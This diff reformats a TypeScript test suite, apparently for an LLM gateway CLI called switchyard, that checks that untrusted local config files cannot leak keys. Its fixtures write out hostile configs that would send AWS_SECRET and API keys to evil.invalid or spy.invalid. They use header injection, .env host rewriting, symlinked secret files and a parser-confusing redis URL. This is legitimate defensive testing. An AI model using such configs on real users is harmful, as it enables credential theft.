@@ -29,18 +29,42 @@ const config = configSchema.parse({
     local: { type: 'openai', base_url: 'http://127.0.0.1:4010/v1' },
   },
   main: { provider: 'local', model: 'm' },
-  auxiliary: { title_generation: { provider: 'openai', base_url: 'https://elsewhere.invalid/v1', fallback_chain: [{ provider: 'evil', model: 'x' }] } },
+  auxiliary: {
+    title_generation: {
+      provider: 'openai',
+      base_url: 'https://elsewhere.invalid/v1',
+      fallback_chain: [{ provider: 'evil', model: 'x' }],
+    },
+  },
   gateway: { state: 'redis://cache.invalid:6379/0' },
 });
 
 test('where a value read at a path may be sent', () => {
   // A provider's own proxy sees what goes through it: it is a destination of the provider's values too.
-  assert.deepEqual(hostsFor(config, ['providers', 'evil', 'headers', 'X-Key']), ['https://evil.invalid', 'http://proxy.corp:3128']);
-  assert.deepEqual(hostsFor(config, ['providers', 'evil', 'proxy']), ['http://proxy.corp:3128'], 'a proxy setting goes to the proxy');
+  assert.deepEqual(hostsFor(config, ['providers', 'evil', 'headers', 'X-Key']), [
+    'https://evil.invalid',
+    'http://proxy.corp:3128',
+  ]);
+  assert.deepEqual(
+    hostsFor(config, ['providers', 'evil', 'proxy']),
+    ['http://proxy.corp:3128'],
+    'a proxy setting goes to the proxy',
+  );
   // A task with its own base_url sends its provider's keys there too.
-  assert.deepEqual(hostsFor(config, ['providers', 'openai', 'api_key']), ['https://api.openai.com', 'https://elsewhere.invalid']);
-  assert.deepEqual(hostsFor(config, ['main', 'model']), ['http://127.0.0.1:4010'], 'a route sends its model to its provider');
-  assert.deepEqual(hostsFor(config, ['auxiliary', 'title_generation', 'fallback_chain', 0, 'model']), ['https://evil.invalid', 'http://proxy.corp:3128'], 'the deepest route on the path decides');
+  assert.deepEqual(hostsFor(config, ['providers', 'openai', 'api_key']), [
+    'https://api.openai.com',
+    'https://elsewhere.invalid',
+  ]);
+  assert.deepEqual(
+    hostsFor(config, ['main', 'model']),
+    ['http://127.0.0.1:4010'],
+    'a route sends its model to its provider',
+  );
+  assert.deepEqual(
+    hostsFor(config, ['auxiliary', 'title_generation', 'fallback_chain', 0, 'model']),
+    ['https://evil.invalid', 'http://proxy.corp:3128'],
+    'the deepest route on the path decides',
+  );
   assert.deepEqual(hostsFor(config, ['gateway', 'state']), ['redis://cache.invalid:6379']);
   assert.deepEqual(hostsFor(config, ['gateway', 'admin_key']), [], 'a local setting goes nowhere');
   assert.deepEqual(hostsFor(config, ['retry', 'base_delay']), []);
@@ -52,7 +76,11 @@ test('${VAR} references as written; $${ is a literal', () => {
 
 test('withheld: a variable going to a foreign host; not one going to loopback or to its well-known home, nor one that is not set', () => {
   const raw = { providers: { evil: { headers: { 'X-Key': '${AWS_SECRET}' } }, local: { api_key: '${LOCAL_KEY}' } } };
-  const keyEnv = new Map([['evil', 'EVIL_API_KEY'], ['openai', 'OPENAI_API_KEY'], ['local', 'OPENAI_API_KEY']]);
+  const keyEnv = new Map([
+    ['evil', 'EVIL_API_KEY'],
+    ['openai', 'OPENAI_API_KEY'],
+    ['local', 'OPENAI_API_KEY'],
+  ]);
   const env = { AWS_SECRET: SECRET, LOCAL_KEY: 'k', OPENAI_API_KEY: SHELL_KEY };
   const withheld = withheldVariables(raw, config, env, keyEnv);
   assert.deepEqual([...withheld.keys()], ['AWS_SECRET', 'OPENAI_API_KEY']);
@@ -60,7 +88,12 @@ test('withheld: a variable going to a foreign host; not one going to loopback or
   // OPENAI_API_KEY may go to api.openai.com and loopback, but the title task sends openai's keys to another host.
   assert.deepEqual(withheld.get('OPENAI_API_KEY')?.hosts, ['https://elsewhere.invalid']);
   assert.deepEqual(withheld.get('OPENAI_API_KEY')?.readAt, ['providers.openai.key_env']);
-  const official = withheldVariables({}, configSchema.parse({ providers: { openai: { type: 'openai', base_url: 'https://api.openai.com/v1' } } }), env, new Map([['openai', 'OPENAI_API_KEY']]));
+  const official = withheldVariables(
+    {},
+    configSchema.parse({ providers: { openai: { type: 'openai', base_url: 'https://api.openai.com/v1' } } }),
+    env,
+    new Map([['openai', 'OPENAI_API_KEY']]),
+  );
   assert.equal(official.size, 0, 'OPENAI_API_KEY to api.openai.com is what any config does');
 });
 
@@ -71,7 +104,8 @@ function repo(yaml: string, dotenv?: string): ReturnType<typeof tempWorkspace> {
   return ws;
 }
 
-const EVIL = 'providers:\n  openai: { type: openai, base_url: https://evil.invalid/v1 }\nmain: { provider: openai, model: gpt-4o }\n';
+const EVIL =
+  'providers:\n  openai: { type: openai, base_url: https://evil.invalid/v1 }\nmain: { provider: openai, model: gpt-4o }\n';
 
 test('the loader: an untrusted local config does not read a key variable it would send elsewhere; named, or trusted, it does', (t) => {
   const ws = repo(EVIL);
@@ -81,11 +115,20 @@ test('the loader: an untrusted local config does not read a key variable it woul
   const local = loadConfig({ cwd, env });
   assert.equal(local.localConfig, true);
   assert.equal(envValue(local, 'OPENAI_API_KEY'), undefined, 'not read');
-  assert.match(local.warnings.join('\n'), /OPENAI_API_KEY is set in the environment, but .*switchyard\.yaml was found in the current directory .* would send it to https:\/\/evil\.invalid; it is not read\. If the file is yours, `switchyard config trust`/);
-  assert.match(lookedIn(local, 'openai').join(', '), /env OPENAI_API_KEY \(set, but not read by a \.\/switchyard\.yaml found in the current directory/);
+  assert.match(
+    local.warnings.join('\n'),
+    /OPENAI_API_KEY is set in the environment, but .*switchyard\.yaml was found in the current directory .* would send it to https:\/\/evil\.invalid; it is not read\. If the file is yours, `switchyard config trust`/,
+  );
+  assert.match(
+    lookedIn(local, 'openai').join(', '),
+    /env OPENAI_API_KEY \(set, but not read by a \.\/switchyard\.yaml found in the current directory/,
+  );
   assertNoSecrets([SHELL_KEY], local.warnings.join('\n'));
   // Named with --config: the user chose it.
-  assert.equal(envValue(loadConfig({ cwd, env, configPath: join(cwd, 'switchyard.yaml') }), 'OPENAI_API_KEY'), SHELL_KEY);
+  assert.equal(
+    envValue(loadConfig({ cwd, env, configPath: join(cwd, 'switchyard.yaml') }), 'OPENAI_API_KEY'),
+    SHELL_KEY,
+  );
   // Trusted: read like a named one, and still a local config (stored keys keep their own rule).
   trustConfig(join(cwd, 'switchyard.yaml'), env);
   const trusted = loadConfig({ cwd, env });
@@ -96,17 +139,29 @@ test('the loader: an untrusted local config does not read a key variable it woul
 });
 
 test('the loader: ${VAR} in a header going elsewhere is a located error naming the variable and the fix; its own .env is read', (t) => {
-  const ws = repo('providers:\n  p: { type: openai, base_url: https://evil.invalid/v1, headers: { X-Steal: "${AWS_SECRET}" }, api_key: "${P_KEY}" }\nmain: { provider: p, model: m }\n', `P_KEY=sk-repo-dotenv-key-0000e5f6\n`);
+  const ws = repo(
+    'providers:\n  p: { type: openai, base_url: https://evil.invalid/v1, headers: { X-Steal: "${AWS_SECRET}" }, api_key: "${P_KEY}" }\nmain: { provider: p, model: m }\n',
+    `P_KEY=sk-repo-dotenv-key-0000e5f6\n`,
+  );
   t.after(() => ws.cleanup());
   const cwd = join(ws.dir, 'repo');
-  assert.throws(() => loadConfig({ cwd, env: { AWS_SECRET: SECRET, SWITCHYARD_HOME: ws.home } }), (err: unknown) => {
-    assert.ok(err instanceof UserError);
-    assert.match(err.message, /switchyard\.yaml:2:\d+: providers\.p\.headers\.X-Steal: AWS_SECRET is set in the environment, but .* would send it to https:\/\/evil\.invalid; it is not read/);
-    assertNoSecrets([SECRET], err.message);
-    return true;
-  });
+  assert.throws(
+    () => loadConfig({ cwd, env: { AWS_SECRET: SECRET, SWITCHYARD_HOME: ws.home } }),
+    (err: unknown) => {
+      assert.ok(err instanceof UserError);
+      assert.match(
+        err.message,
+        /switchyard\.yaml:2:\d+: providers\.p\.headers\.X-Steal: AWS_SECRET is set in the environment, but .* would send it to https:\/\/evil\.invalid; it is not read/,
+      );
+      assertNoSecrets([SECRET], err.message);
+      return true;
+    },
+  );
   // Without the variable, the repository's own .env (beside the file) is read as usual.
-  const ws2 = repo('providers:\n  p: { type: openai, base_url: https://evil.invalid/v1, api_key: "${P_KEY}" }\nmain: { provider: p, model: m }\n', `P_KEY=sk-repo-dotenv-key-0000e5f6\n`);
+  const ws2 = repo(
+    'providers:\n  p: { type: openai, base_url: https://evil.invalid/v1, api_key: "${P_KEY}" }\nmain: { provider: p, model: m }\n',
+    `P_KEY=sk-repo-dotenv-key-0000e5f6\n`,
+  );
   t.after(() => ws2.cleanup());
   const fromDotenv = loadConfig({ cwd: join(ws2.dir, 'repo'), env: { SWITCHYARD_HOME: ws2.home } });
   assert.equal(fromDotenv.config.providers['p']?.api_key, 'sk-repo-dotenv-key-0000e5f6');
@@ -122,15 +177,24 @@ test('switchyard config trust as a user runs it: chat sends nothing until the fi
   const env = { OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home };
   const untrusted = await runCli(['chat', '-m', 'hi'], { cwd, env });
   assert.equal(untrusted.code, 1);
-  assert.match(untrusted.stderr, /no API key for provider openai — looked in providers\.openai\.api_key, env OPENAI_API_KEY \(set, but not read by a \.\/switchyard\.yaml/);
+  assert.match(
+    untrusted.stderr,
+    /no API key for provider openai — looked in providers\.openai\.api_key, env OPENAI_API_KEY \(set, but not read by a \.\/switchyard\.yaml/,
+  );
   assert.doesNotMatch(untrusted.stderr, /evil\.invalid.*(ENOTFOUND|EAI_AGAIN|could not reach)/, 'nothing was sent');
 
   const explain = await runCli(['config', 'show', '--explain'], { cwd, env });
-  assert.match(explain.stdout, /providers\.openai\.key_env\s+OPENAI_API_KEY\s+default; not read from the environment \(this \.\/switchyard\.yaml is not trusted with it\)/);
+  assert.match(
+    explain.stdout,
+    /providers\.openai\.key_env\s+OPENAI_API_KEY\s+default; not read from the environment \(this \.\/switchyard\.yaml is not trusted with it\)/,
+  );
 
   const trust = await runCli(['config', 'trust'], { cwd, env });
   assert.equal(trust.code, 0, trust.stderr);
-  assert.match(trust.stdout, /^trusted: .*switchyard\.yaml\nit may now read from the environment and send:\n {2}OPENAI_API_KEY → https:\/\/evil\.invalid \(providers\.openai\.key_env\)\n/);
+  assert.match(
+    trust.stdout,
+    /^trusted: .*switchyard\.yaml\nit may now read from the environment and send:\n {2}OPENAI_API_KEY → https:\/\/evil\.invalid \(providers\.openai\.key_env\)\n/,
+  );
   const list = await runCli(['config', 'trust', '--list'], { cwd, env });
   assert.match(list.stdout, /repo\/switchyard\.yaml\n$/);
   // Trusted, the key is sent: the call now fails on the name lookup of the host the file names.
@@ -148,39 +212,60 @@ test('switchyard config trust as a user runs it: chat sends nothing until the fi
 });
 
 test('a key slot written as ${VAR} that an untrusted local config may not read says so in the "no API key" places', (t) => {
-  const ws = repo('providers:\n  p: { type: openai, base_url: https://evil.invalid/v1, api_key: "${SHELL_VAR}" }\nmain: { provider: p, model: m }\n');
+  const ws = repo(
+    'providers:\n  p: { type: openai, base_url: https://evil.invalid/v1, api_key: "${SHELL_VAR}" }\nmain: { provider: p, model: m }\n',
+  );
   t.after(() => ws.cleanup());
   const loaded = loadConfig({ cwd: join(ws.dir, 'repo'), env: { SHELL_VAR: SHELL_KEY, SWITCHYARD_HOME: ws.home } });
-  assert.match(lookedIn(loaded, 'p').join(', '), /^providers\.p\.api_key is \$\{SHELL_VAR\}, which is set, but not read by a \.\/switchyard\.yaml found in the current directory that would send it to another host; `switchyard config trust` if the file is yours, env P_API_KEY, /);
+  assert.match(
+    lookedIn(loaded, 'p').join(', '),
+    /^providers\.p\.api_key is \$\{SHELL_VAR\}, which is set, but not read by a \.\/switchyard\.yaml found in the current directory that would send it to another host; `switchyard config trust` if the file is yours, env P_API_KEY, /,
+  );
 });
 
 test('a proxy the file names is a destination even for a loopback upstream (it sees the request in the clear)', (t) => {
-  const ws = repo('providers:\n  openai: { type: openai, base_url: http://127.0.0.1:9/v1, proxy: http://spy.invalid:3128 }\nmain: { provider: openai, model: m }\n');
+  const ws = repo(
+    'providers:\n  openai: { type: openai, base_url: http://127.0.0.1:9/v1, proxy: http://spy.invalid:3128 }\nmain: { provider: openai, model: m }\n',
+  );
   t.after(() => ws.cleanup());
-  const loaded = loadConfig({ cwd: join(ws.dir, 'repo'), env: { OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home } });
+  const loaded = loadConfig({
+    cwd: join(ws.dir, 'repo'),
+    env: { OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home },
+  });
   assert.equal(envValue(loaded, 'OPENAI_API_KEY'), undefined);
   assert.deepEqual(loaded.withheldEnv?.get('OPENAI_API_KEY')?.hosts, ['http://spy.invalid:3128']);
 });
 
-test('the file\'s own .env cannot move a destination after the check: what a withheld variable becomes is checked too', (t) => {
+test("the file's own .env cannot move a destination after the check: what a withheld variable becomes is checked too", (t) => {
   // HOME goes into the base_url, so it is withheld; the repository's .env then supplies its own HOME, which turns the
   // well-known host into another one — so OPENAI_API_KEY, fine for api.openai.com, is withheld as well.
-  const ws = repo('providers:\n  openai: { type: openai, base_url: "https://api.openai.com${HOME}" }\nmain: { provider: openai, model: m }\n', 'HOME=.evil.invalid/v1\n');
+  const ws = repo(
+    'providers:\n  openai: { type: openai, base_url: "https://api.openai.com${HOME}" }\nmain: { provider: openai, model: m }\n',
+    'HOME=.evil.invalid/v1\n',
+  );
   t.after(() => ws.cleanup());
-  const loaded = loadConfig({ cwd: join(ws.dir, 'repo'), env: { HOME: '/home/me', OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home } });
+  const loaded = loadConfig({
+    cwd: join(ws.dir, 'repo'),
+    env: { HOME: '/home/me', OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home },
+  });
   assert.equal(loaded.config.providers['openai']?.base_url, 'https://api.openai.com.evil.invalid/v1');
   assert.equal(envValue(loaded, 'OPENAI_API_KEY'), undefined, 'not sent to the host the .env made');
   assert.deepEqual(loaded.withheldEnv?.get('OPENAI_API_KEY')?.hosts, ['https://api.openai.com.evil.invalid']);
 });
 
 test('config trust works for a file that cannot load untrusted, and says when it still does not load', async (t) => {
-  const ws = repo('providers:\n  corp: { type: openai, base_url: "${CORP_LLM_URL}" }\nmain: { provider: corp, model: m }\n');
+  const ws = repo(
+    'providers:\n  corp: { type: openai, base_url: "${CORP_LLM_URL}" }\nmain: { provider: corp, model: m }\n',
+  );
   t.after(() => ws.cleanup());
   const cwd = join(ws.dir, 'repo');
   const env = { CORP_LLM_URL: 'https://llm.corp.invalid/v1', SWITCHYARD_HOME: ws.home };
   const before = await runCli(['config', 'check'], { cwd, env });
   assert.equal(before.code, 2);
-  assert.match(before.stderr, /CORP_LLM_URL is set in the environment, but .* it is not read\. If the file is yours, `switchyard config trust`/);
+  assert.match(
+    before.stderr,
+    /CORP_LLM_URL is set in the environment, but .* it is not read\. If the file is yours, `switchyard config trust`/,
+  );
   const trust = await runCli(['config', 'trust'], { cwd, env });
   assert.equal(trust.code, 0, trust.stderr);
   assert.match(trust.stdout, / {2}CORP_LLM_URL → https:\/\/llm\.corp\.invalid \(providers\.corp\.base_url\)\n/);
@@ -194,9 +279,15 @@ test('config trust works for a file that cannot load untrusted, and says when it
 test('the "no API key" advice for a withheld key is to trust the file if it is yours — never to add a key for that host', (t) => {
   const ws = repo(EVIL);
   t.after(() => ws.cleanup());
-  const loaded = loadConfig({ cwd: join(ws.dir, 'repo'), env: { OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home } });
+  const loaded = loadConfig({
+    cwd: join(ws.dir, 'repo'),
+    env: { OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home },
+  });
   const message = explainMissing({ provider: 'openai', lookedIn: lookedIn(loaded, 'openai') });
-  assert.match(message, /; if this \.\/switchyard\.yaml is yours, `switchyard config trust`; if not, it sends openai's keys to a host of its choosing \(providers\.openai\.base_url\) — do not add one for it$/);
+  assert.match(
+    message,
+    /; if this \.\/switchyard\.yaml is yours, `switchyard config trust`; if not, it sends openai's keys to a host of its choosing \(providers\.openai\.base_url\) — do not add one for it$/,
+  );
   assert.doesNotMatch(message, /auth add/);
 });
 
@@ -207,7 +298,10 @@ test('switchyard gateway refuses an untrusted ./switchyard.yaml; trusted, it sta
   const env = { PATH: process.env['PATH'] ?? '', HOME: ws.dir, OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home };
   const refused = await runCli(['gateway', '--listen', '127.0.0.1:0'], { cwd, env });
   assert.equal(refused.code, 2);
-  assert.match(refused.stderr, /was found in the current directory and is not trusted: a gateway serves whoever reaches it with your keys/);
+  assert.match(
+    refused.stderr,
+    /was found in the current directory and is not trusted: a gateway serves whoever reaches it with your keys/,
+  );
   assert.equal((await runCli(['config', 'trust'], { cwd, env })).code, 0);
   const gw = await spawnGateway(t, [], env, cwd);
   t.after(async () => {
@@ -215,7 +309,11 @@ test('switchyard gateway refuses an untrusted ./switchyard.yaml; trusted, it sta
     await gw.exited;
   });
   const failure = async (): Promise<string> => {
-    const res = await fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ model: 'main', messages: [{ role: 'user', content: 'hi' }] }) });
+    const res = await fetch(`${gw.url}/v1/chat/completions`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ model: 'main', messages: [{ role: 'user', content: 'hi' }] }),
+    });
     return ((await res.json()) as { error: { message: string } }).error.message;
   };
   // Sent: the call fails on the name lookup of the host the file names (nothing leaves this machine).
@@ -228,39 +326,75 @@ test('switchyard gateway refuses an untrusted ./switchyard.yaml; trusted, it sta
 
 test('to a server on this machine, a variable goes as a key only: inside a model name, a header or a URL it is data that server may pass on', (t) => {
   // `switchyard gateway` on loopback routes a model `other/…` to another provider: a model name is not safe there.
-  const ws = repo('providers:\n  loop: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: "${LOOP_KEY}" }\n  evil2: { type: openai, base_url: https://evil.invalid/v1, api_key: x }\nmain: { provider: loop, model: "evil2/${AWS_SECRET}" }\n');
+  const ws = repo(
+    'providers:\n  loop: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: "${LOOP_KEY}" }\n  evil2: { type: openai, base_url: https://evil.invalid/v1, api_key: x }\nmain: { provider: loop, model: "evil2/${AWS_SECRET}" }\n',
+  );
   t.after(() => ws.cleanup());
-  assert.throws(() => loadConfig({ cwd: join(ws.dir, 'repo'), env: { LOOP_KEY: 'sk-local-server-key-0001', AWS_SECRET: SECRET, SWITCHYARD_HOME: ws.home } }), /main\.model: AWS_SECRET is set in the environment, but .* would send it to http:\/\/127\.0\.0\.1:9; it is not read/);
-  const keyOnly = repo('providers:\n  loop: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: "${LOOP_KEY}" }\nmain: { provider: loop, model: m }\n');
+  assert.throws(
+    () =>
+      loadConfig({
+        cwd: join(ws.dir, 'repo'),
+        env: { LOOP_KEY: 'sk-local-server-key-0001', AWS_SECRET: SECRET, SWITCHYARD_HOME: ws.home },
+      }),
+    /main\.model: AWS_SECRET is set in the environment, but .* would send it to http:\/\/127\.0\.0\.1:9; it is not read/,
+  );
+  const keyOnly = repo(
+    'providers:\n  loop: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: "${LOOP_KEY}" }\nmain: { provider: loop, model: m }\n',
+  );
   t.after(() => keyOnly.cleanup());
-  const loaded = loadConfig({ cwd: join(keyOnly.dir, 'repo'), env: { LOOP_KEY: 'sk-local-server-key-0001', SWITCHYARD_HOME: keyOnly.home } });
-  assert.equal(loaded.config.providers['loop']?.api_key, 'sk-local-server-key-0001', 'a key for a server on this machine is read');
+  const loaded = loadConfig({
+    cwd: join(keyOnly.dir, 'repo'),
+    env: { LOOP_KEY: 'sk-local-server-key-0001', SWITCHYARD_HOME: keyOnly.home },
+  });
+  assert.equal(
+    loaded.config.providers['loop']?.api_key,
+    'sk-local-server-key-0001',
+    'a key for a server on this machine is read',
+  );
 });
 
 test('gateway.state URLs that parsers read differently are refused: the host checked is the host ioredis connects to', () => {
-  assert.match(redisUrlProblem('redis://:${X}@127.0.0.1\\@evil.invalid:6379/0') ?? '', /has a `\\` or more than one `@`/);
+  assert.match(
+    redisUrlProblem('redis://:${X}@127.0.0.1\\@evil.invalid:6379/0') ?? '',
+    /has a `\\` or more than one `@`/,
+  );
   assert.match(redisUrlProblem('redis://:pa@ss@127.0.0.1:6379/0') ?? '', /more than one `@`.*%40/);
   assert.equal(redisUrlProblem('redis://:pa%40ss@127.0.0.1:6379/0'), undefined);
-  assert.deepEqual(hostsFor(configSchema.parse({ gateway: { state: 'redis://:x@0.0.0.0:6379/0' } }), ['gateway', 'state']), ['redis://0.0.0.0:6379']);
+  assert.deepEqual(
+    hostsFor(configSchema.parse({ gateway: { state: 'redis://:x@0.0.0.0:6379/0' } }), ['gateway', 'state']),
+    ['redis://0.0.0.0:6379'],
+  );
 });
 
 test('a .env beside an untrusted local config that is a link (to /proc/self/environ, a profile, another project) is not read', (t) => {
-  const ws = repo('providers:\n  openai: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: "${SHELL_LIKE}" }\nmain: { provider: openai, model: m }\n');
+  const ws = repo(
+    'providers:\n  openai: { type: openai, base_url: http://127.0.0.1:9/v1, api_key: "${SHELL_LIKE}" }\nmain: { provider: openai, model: m }\n',
+  );
   t.after(() => ws.cleanup());
   const outside = ws.write('elsewhere/secrets.env', 'SHELL_LIKE=stolen-value-0001\n');
   symlinkSync(outside, join(ws.dir, 'repo', '.env'));
   const cwd = join(ws.dir, 'repo');
   const untrusted = loadConfig({ cwd, env: { SWITCHYARD_HOME: ws.home } });
   assert.equal(untrusted.config.providers['openai']?.api_key, undefined, 'the linked file is not read');
-  assert.match(untrusted.warnings.join('\n'), /\.env is a link or not a regular file, and the \.\/switchyard\.yaml beside it is not trusted, so it is not read/);
+  assert.match(
+    untrusted.warnings.join('\n'),
+    /\.env is a link or not a regular file, and the \.\/switchyard\.yaml beside it is not trusted, so it is not read/,
+  );
   trustConfig(join(cwd, 'switchyard.yaml'), { SWITCHYARD_HOME: ws.home });
-  assert.equal(loadConfig({ cwd, env: { SWITCHYARD_HOME: ws.home } }).config.providers['openai']?.api_key, 'stolen-value-0001', 'trusted, its .env link is followed');
+  assert.equal(
+    loadConfig({ cwd, env: { SWITCHYARD_HOME: ws.home } }).config.providers['openai']?.api_key,
+    'stolen-value-0001',
+    'trusted, its .env link is followed',
+  );
 });
 
 test('however long a chain of .env substitutions, what it moves is checked (no round limit to outrun)', (t) => {
   const levels = 20;
   const lines = ['providers:', '  p0: { type: openai, base_url: https://evil.invalid/v1, api_key: "${V0}" }'];
-  for (let k = 1; k <= levels; k++) lines.push(`  p${k}: { type: openai, base_url: "http://127.0.0.1:9\${V${k - 1}}", api_key: "\${${k === levels ? 'SECRET' : `V${k}`}}" }`);
+  for (let k = 1; k <= levels; k++)
+    lines.push(
+      `  p${k}: { type: openai, base_url: "http://127.0.0.1:9\${V${k - 1}}", api_key: "\${${k === levels ? 'SECRET' : `V${k}`}}" }`,
+    );
   lines.push('main: { provider: p0, model: m }');
   const dotenv = Array.from({ length: levels }, (_, k) => `V${k}=@evil.invalid/v1`).join('\n');
   const ws = repo(`${lines.join('\n')}\n`, `${dotenv}\n`);
@@ -276,16 +410,26 @@ test('however long a chain of .env substitutions, what it moves is checked (no r
 test('a stored key for a plain-http host is held back when the local config (or its .env) routes it through a proxy of its own', async (t) => {
   const ws = tempWorkspace('switchyard-local-env-stored-');
   t.after(() => ws.cleanup());
-  const own = ws.write('own/switchyard.yaml', 'providers:\n  ollama: { type: openai, base_url: http://127.0.0.1:11434/v1 }\n');
+  const own = ws.write(
+    'own/switchyard.yaml',
+    'providers:\n  ollama: { type: openai, base_url: http://127.0.0.1:11434/v1 }\n',
+  );
   const env = { SWITCHYARD_HOME: ws.home, HOME: ws.dir };
   const added = await runCli(['-c', own, 'auth', 'add', 'ollama'], { env, input: 'sk-stored-local-0000a1b2\n' });
   assert.equal(added.code, 0, added.stderr);
   // However the scheme is written: `HTTP://`, or with a leading space, is the same plain http.
   for (const base of ['http://127.0.0.1:11434/v1', 'HTTP://127.0.0.1:11434/v1', ' http://127.0.0.1:11434/v1']) {
-    ws.write('repo/switchyard.yaml', `providers:\n  ollama: { type: openai, base_url: "${base}", proxy: http://spy.invalid:3128 }\nmain: { provider: ollama, model: m }\n`);
+    ws.write(
+      'repo/switchyard.yaml',
+      `providers:\n  ollama: { type: openai, base_url: "${base}", proxy: http://spy.invalid:3128 }\nmain: { provider: ollama, model: m }\n`,
+    );
     const r = await runCli(['chat', '-m', 'hi'], { cwd: join(ws.dir, 'repo'), env });
     assert.equal(r.code, 1, base);
-    assert.match(r.stderr, /sends it over plain http through the proxy http:\/\/spy\.invalid:3128 \(providers\.ollama\.proxy\), which would see it in the clear/, base);
+    assert.match(
+      r.stderr,
+      /sends it over plain http through the proxy http:\/\/spy\.invalid:3128 \(providers\.ollama\.proxy\), which would see it in the clear/,
+      base,
+    );
     assert.match(r.stderr, /`proxy: none` under providers\.ollama/);
     assert.doesNotMatch(r.stderr, /could not reach/, 'nothing was sent');
   }
@@ -294,31 +438,45 @@ test('a stored key for a plain-http host is held back when the local config (or 
   assertNoSecrets(['sk-stored-local-0000a1b2']);
 });
 
-test('gateway service refuses an untrusted ./switchyard.yaml (it would become a named config, its .env the service\'s environment)', async (t) => {
+test("gateway service refuses an untrusted ./switchyard.yaml (it would become a named config, its .env the service's environment)", async (t) => {
   const ws = repo(EVIL);
   t.after(() => ws.cleanup());
   const cwd = join(ws.dir, 'repo');
   const env = { SWITCHYARD_HOME: ws.home, HOME: ws.dir };
   const r = await runCli(['gateway', 'service', '--print'], { cwd, env });
   assert.equal(r.code, 2);
-  assert.match(r.stderr, /was found in the current directory and is not trusted: the service would run it as a named config, with the \.env beside it as its environment/);
+  assert.match(
+    r.stderr,
+    /was found in the current directory and is not trusted: the service would run it as a named config, with the \.env beside it as its environment/,
+  );
   assert.equal((await runCli(['config', 'trust'], { cwd, env })).code, 0);
   assert.equal((await runCli(['gateway', 'service', '--print', '--allow-clone'], { cwd, env })).code, 0);
 });
 
-test('an untrusted local config does not decide where your keys\' health is kept, nor set them aside for longer than the defaults', (t) => {
-  const ws = repo('providers:\n  p: { type: openai, base_url: http://127.0.0.1:9/v1 }\nmain: { provider: p, model: m }\ncooldowns: { rejected: 8760h, auth_suspect: 8760h, rate_limited: 10s }\ngateway: { state: "redis://127.0.0.1:6379/0" }\n');
+test("an untrusted local config does not decide where your keys' health is kept, nor set them aside for longer than the defaults", (t) => {
+  const ws = repo(
+    'providers:\n  p: { type: openai, base_url: http://127.0.0.1:9/v1 }\nmain: { provider: p, model: m }\ncooldowns: { rejected: 8760h, auth_suspect: 8760h, rate_limited: 10s }\ngateway: { state: "redis://127.0.0.1:6379/0" }\n',
+  );
   t.after(() => ws.cleanup());
   const cwd = join(ws.dir, 'repo');
   const env = { SWITCHYARD_HOME: ws.home };
   const untrusted = loadConfig({ cwd, env });
   const defaults = configSchema.parse({}).cooldowns;
   assert.equal(untrusted.config.gateway.state, 'sqlite');
-  assert.deepEqual([untrusted.config.cooldowns.rejected, untrusted.config.cooldowns.auth_suspect], [defaults.rejected, defaults.auth_suspect]);
+  assert.deepEqual(
+    [untrusted.config.cooldowns.rejected, untrusted.config.cooldowns.auth_suspect],
+    [defaults.rejected, defaults.auth_suspect],
+  );
   assert.equal(untrusted.config.cooldowns.rate_limited, 10_000, 'shorter is harmless: kept');
   const warnings = untrusted.warnings.join('\n');
-  assert.match(warnings, /gateway\.state redis:\/\/127\.0\.0\.1:6379\/0 is not used: .* is not trusted to choose where your keys' health is kept/);
-  assert.match(warnings, /cooldowns\.auth_suspect, cooldowns\.rejected are held to the default|cooldowns\.rejected, cooldowns\.auth_suspect are held to the default/);
+  assert.match(
+    warnings,
+    /gateway\.state redis:\/\/127\.0\.0\.1:6379\/0 is not used: .* is not trusted to choose where your keys' health is kept/,
+  );
+  assert.match(
+    warnings,
+    /cooldowns\.auth_suspect, cooldowns\.rejected are held to the default|cooldowns\.rejected, cooldowns\.auth_suspect are held to the default/,
+  );
   trustConfig(join(cwd, 'switchyard.yaml'), env);
   const trusted = loadConfig({ cwd, env });
   assert.equal(trusted.config.gateway.state, 'redis://127.0.0.1:6379/0');
